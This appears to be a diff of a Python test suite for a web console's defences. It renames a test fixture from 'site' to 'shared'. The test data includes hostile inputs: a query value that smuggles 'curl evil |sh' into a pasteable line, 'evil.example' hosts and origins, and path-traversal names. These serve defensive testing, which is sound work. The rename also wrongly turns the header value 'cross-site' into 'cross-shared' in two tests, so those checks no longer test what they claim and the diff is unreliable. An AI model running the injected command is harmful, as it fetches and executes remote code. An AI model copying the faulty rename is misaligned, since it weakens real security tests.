@@ -31,8 +31,8 @@ def written(site: Site) -> int:
 
 
 @pytest.mark.parametrize("target", PAGES)
-def test_a_stranger_sees_no_page(site: Site, target: str) -> None:
-    found = site.stranger().get(target)
+def test_a_stranger_sees_no_page(shared: Site, target: str) -> None:
+    found = shared.stranger().get(target)
     assert (found.status, found.header("location"), found.body) == (303, "/sign-in", b"")
 
 
@@ -45,30 +45,30 @@ def test_a_stranger_watches_no_run(site: Site, kept: Callable[..., Path]) -> Non
     "cookie",
     ["tacit-8765=", "tacit-8765=guess", "tacit-8765=" + "A" * 43, "tacit=x", "tacit-8765=\xe9"],
 )
-def test_a_forged_cookie_is_nobodys(site: Site, cookie: str) -> None:
-    assert Browser(site.app, cookie=cookie).get("/budgets").status == 303
+def test_a_forged_cookie_is_nobodys(shared: Site, cookie: str) -> None:
+    assert Browser(shared.app, cookie=cookie).get("/budgets").status == 303
 
 
-def test_a_token_works_once(site: Site) -> None:
+def test_a_token_works_once(shared: Site) -> None:
     from .conftest import PEOPLE  # noqa: PLC0415
 
-    token = site.console.access.link(PEOPLE["officer"])
-    assert site.stranger().get(f"/enter?token={token}").status == 303
-    assert site.stranger().get(f"/enter?token={token}").status == 403
+    token = shared.console.access.link(PEOPLE["officer"])
+    assert shared.stranger().get(f"/enter?token={token}").status == 303
+    assert shared.stranger().get(f"/enter?token={token}").status == 403
 
 
 @pytest.mark.parametrize("token", ["", "guess", "A" * 10_000, "%00", "é"])
-def test_a_forged_token_opens_nothing(site: Site, token: str) -> None:
-    found = site.stranger().get(f"/enter?token={token}")
+def test_a_forged_token_opens_nothing(shared: Site, token: str) -> None:
+    found = shared.stranger().get(f"/enter?token={token}")
     assert found.status in (403, 414)
     assert found.header("set-cookie") is None
 
 
-def test_the_cookie_is_out_of_reach_of_scripts_and_other_sites(site: Site) -> None:
+def test_the_cookie_is_out_of_reach_of_scripts_and_other_sites(shared: Site) -> None:
     from .conftest import PEOPLE  # noqa: PLC0415
 
-    token = site.console.access.link(PEOPLE["viewer"])
-    given = site.stranger().get(f"/enter?token={token}").header("set-cookie") or ""
+    token = shared.console.access.link(PEOPLE["viewer"])
+    given = shared.stranger().get(f"/enter?token={token}").header("set-cookie") or ""
     assert "HttpOnly" in given
     assert "SameSite=lax" in given
 
@@ -77,37 +77,37 @@ def test_the_cookie_is_out_of_reach_of_scripts_and_other_sites(site: Site) -> No
     "host",
     ["evil.example", "evil.example:8765", "127.0.0.1", "", "127.0.0.1.x:8765"],
 )
-def test_a_name_that_was_bound_to_this_machine_is_not_answered(site: Site, host: str) -> None:
-    browser = site.browser("officer")
+def test_a_name_that_was_bound_to_this_machine_is_not_answered(shared: Site, host: str) -> None:
+    browser = shared.browser("officer")
     assert browser.get("/budgets", host=host).status == 421
 
 
 @pytest.mark.parametrize(
     "origin", ["", "null", "http://evil.example", "http://127.0.0.1:9", "https://127.0.0.1:8765"]
 )
-def test_a_form_of_another_site_does_nothing(site: Site, origin: str) -> None:
-    browser, before = site.browser("engineer"), written(site)
+def test_a_form_of_another_site_does_nothing(shared: Site, origin: str) -> None:
+    browser, before = shared.browser("engineer"), written(shared)
     assert browser.post("/requests", PLAN, origin=origin).status == 403
-    assert browser.post("/requests", PLAN, sec_fetch_site="cross-site").status == 403
-    assert written(site) == before
+    assert browser.post("/requests", PLAN, sec_fetch_site="cross-shared").status == 403
+    assert written(shared) == before
 
 
 @pytest.mark.parametrize("word", ["", "guess", "é"])
-def test_a_form_without_the_sessions_word_does_nothing(site: Site, word: str) -> None:
-    browser, before = site.browser("engineer"), written(site)
+def test_a_form_without_the_sessions_word_does_nothing(shared: Site, word: str) -> None:
+    browser, before = shared.browser("engineer"), written(shared)
     assert browser.post("/requests", {**PLAN, "csrf": word}).status == 403
-    assert written(site) == before
+    assert written(shared) == before
 
 
-def test_the_word_of_another_session_does_nothing(site: Site) -> None:
-    one, other, before = site.browser("engineer"), site.browser("engineer"), written(site)
+def test_the_word_of_another_session_does_nothing(shared: Site) -> None:
+    one, other, before = shared.browser("engineer"), shared.browser("engineer"), written(shared)
     assert one.post("/requests", {**PLAN, "csrf": other.csrf}).status == 403
-    assert written(site) == before
+    assert written(shared) == before
 
 
-def test_another_sites_page_cannot_embed_or_load(site: Site) -> None:
-    browser = site.browser("viewer")
-    sent = {"sec_fetch_site": "cross-site", "sec_fetch_mode": "no-cors"}
+def test_another_sites_page_cannot_embed_or_load(shared: Site) -> None:
+    browser = shared.browser("viewer")
+    sent = {"sec_fetch_site": "cross-shared", "sec_fetch_mode": "no-cors"}
     assert browser.get("/runs", **sent).status == 403
     found = browser.get("/budgets")
     policy = found.header("content-security-policy") or ""
@@ -127,11 +127,11 @@ def test_only_an_officer_decides(site: Site, who: str, verdict: str) -> None:
     assert written(site) == before
 
 
-def test_a_viewer_files_nothing(site: Site) -> None:
-    browser, before = site.browser("viewer"), written(site)
+def test_a_viewer_files_nothing(shared: Site) -> None:
+    browser, before = shared.browser("viewer"), written(shared)
     assert browser.post("/requests", PLAN).status == 403
     assert browser.post("/links", {}).status == 403
-    assert written(site) == before
+    assert written(shared) == before
 
 
 def test_an_officer_does_not_approve_their_own(site: Site) -> None:
@@ -181,11 +181,11 @@ def test_an_approval_without_a_reason_is_none(site: Site) -> None:
     assert written(site) == before
 
 
-def test_who_signed_out_is_out(site: Site) -> None:
-    browser = site.browser("officer")
+def test_who_signed_out_is_out(shared: Site) -> None:
+    browser = shared.browser("officer")
     cookie = browser.cookie
     assert browser.post("/sign-out", {}).status == 303
-    assert Browser(site.app, cookie=cookie).get("/budgets").status == 303
+    assert Browser(shared.app, cookie=cookie).get("/budgets").status == 303
 
 
 TRAVERSALS = [
@@ -223,8 +223,8 @@ def test_a_link_inside_a_run_is_not_followed(site: Site, kept: Callable[..., Pat
 
 
 @pytest.mark.parametrize("name", ["../app.py", "%2e%2e/app.py", "console.css/..", "htmx.LICENSE"])
-def test_static_files_are_a_list_and_no_folder(site: Site, name: str) -> None:
-    assert site.browser("viewer").get(f"/static/{name}").status == 404
+def test_static_files_are_a_list_and_no_folder(shared: Site, name: str) -> None:
+    assert shared.browser("viewer").get(f"/static/{name}").status == 404
 
 
 def test_a_script_in_any_name_is_text(site: Site, kept: Callable[..., Path]) -> None:
@@ -260,8 +260,8 @@ def test_a_script_in_a_statement_stays_in_its_data(site: Site, kept: Callable[..
     assert "attachment" in (card.header("content-disposition") or "")
 
 
-def test_a_link_puts_no_command_into_a_line_to_paste(site: Site) -> None:
-    browser = site.browser("engineer")
+def test_a_link_puts_no_command_into_a_line_to_paste(shared: Site) -> None:
+    browser = shared.browser("engineer")
     for field in ("recipe", "epsilon", "delta", "epochs", "sigma", "adjacency", "budget"):
         found = browser.get(f"/plan?{field}=1;curl%20evil%20|sh&by=epsilon").text
         for line in found.split("<pre")[1:]:
@@ -327,33 +327,33 @@ def test_files_that_are_torn_or_too_large_are_named(
         ({"transfer-encoding": "chunked"}, 411),
     ],
 )
-def test_a_form_is_small_and_says_how_long(site: Site, sent: dict[str, str], status: int) -> None:
-    browser = site.browser("engineer")
+def test_a_form_is_small_and_says_how_long(shared: Site, sent: dict[str, str], status: int) -> None:
+    browser = shared.browser("engineer")
     headers = {"host": "127.0.0.1:8765", "origin": ORIGIN, "cookie": browser.cookie, **sent}
-    assert call(site.app, "POST", "/requests", headers, b"x" * 70_000).status == status
+    assert call(shared.app, "POST", "/requests", headers, b"x" * 70_000).status == status
 
 
-def test_a_body_longer_than_it_said_is_not_read(site: Site) -> None:
-    browser, before = site.browser("engineer"), written(site)
+def test_a_body_longer_than_it_said_is_not_read(shared: Site) -> None:
+    browser, before = shared.browser("engineer"), written(shared)
     headers = {"host": "127.0.0.1:8765", "origin": ORIGIN, "cookie": browser.cookie,
                "content-length": "10"}  # fmt: skip
-    assert call(site.app, "POST", "/requests", headers, b"x" * 200_000).status == 413
-    assert written(site) == before
+    assert call(shared.app, "POST", "/requests", headers, b"x" * 200_000).status == 413
+    assert written(shared) == before
 
 
-def test_fields_come_once_and_not_by_thousands(site: Site) -> None:
-    browser, before = site.browser("engineer"), written(site)
+def test_fields_come_once_and_not_by_thousands(shared: Site) -> None:
+    browser, before = shared.browser("engineer"), written(shared)
     for body in (b"csrf=a&csrf=b", b"&".join(b"a%d=1" % at for at in range(500))):
         headers = {"host": "127.0.0.1:8765", "origin": ORIGIN, "cookie": browser.cookie,
                    "content-length": str(len(body))}  # fmt: skip
-        assert call(site.app, "POST", "/requests", headers, body).status == 400
-    assert written(site) == before
+        assert call(shared.app, "POST", "/requests", headers, body).status == 400
+    assert written(shared) == before
 
 
 @pytest.mark.parametrize("method", ["PUT", "DELETE", "TRACE", "OPTIONS", "PATCH", "CONNECT"])
-def test_other_methods_are_refused(site: Site, method: str) -> None:
-    headers = {"host": "127.0.0.1:8765", "cookie": site.browser("officer").cookie}
-    assert call(site.app, method, "/budgets", headers).status == 405
+def test_other_methods_are_refused(shared: Site, method: str) -> None:
+    headers = {"host": "127.0.0.1:8765", "cookie": shared.browser("officer").cookie}
+    assert call(shared.app, method, "/budgets", headers).status == 405
 
 
 def test_nothing_is_written_by_looking(site: Site, kept: Callable[..., Path]) -> None:
@@ -375,10 +375,10 @@ def test_nothing_is_written_by_looking(site: Site, kept: Callable[..., Path]) ->
         {"reason": ""}, {"label": "\u202e"}, {"clip": "inf"}, {"by": "wish"},
     ],
 )  # fmt: skip
-def test_a_request_for_nonsense_is_not_filed(site: Site, changes: dict[str, str]) -> None:
-    browser, before = site.browser("engineer"), written(site)
+def test_a_request_for_nonsense_is_not_filed(shared: Site, changes: dict[str, str]) -> None:
+    browser, before = shared.browser("engineer"), written(shared)
     assert browser.post("/requests", {**PLAN, **changes}).status == 400
-    assert written(site) == before
+    assert written(shared) == before
 
 
 def test_a_changed_entry_is_an_alarm_and_nothing_is_granted(site: Site) -> None:
